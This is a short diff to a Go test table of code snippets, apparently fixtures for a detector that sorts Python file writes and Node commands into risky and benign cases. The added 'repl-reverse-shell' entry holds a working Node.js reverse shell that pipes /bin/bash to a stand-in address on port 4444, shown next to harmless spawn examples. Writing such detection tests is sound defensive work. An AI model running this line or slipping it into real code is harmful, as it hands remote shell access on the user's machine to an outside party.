@@ -48,4 +48,6 @@ var pyFsExamples = []struct {
 		py("open('out/empty.txt', 'w').close()", "Path('notes.md').write_text('')", "open('.git/info/exclude', 'a').write('scratch/\\n')",
 			"open(os.path.expanduser('~/.bashrc'), 'a').write('export PATH=$PATH:~/bin\\n')", "Path('.env.example').write_text('')",
 			"Path('~/.config/app/settings.json').expanduser().write_text(json.dumps(s))")},
+	{"repl-reverse-shell", node("const sh = require('child_process').spawn('/bin/bash', []); const c = net.connect(4444, '198.51.100.7', () => { c.pipe(sh.stdin); sh.stdout.pipe(c) })"),
+		node("const p = spawn('npm', ['run', 'dev']); net.connect(3000, 'localhost')", "spawn('bash', ['-c', 'make test'], { stdio: 'inherit' })")},
 }
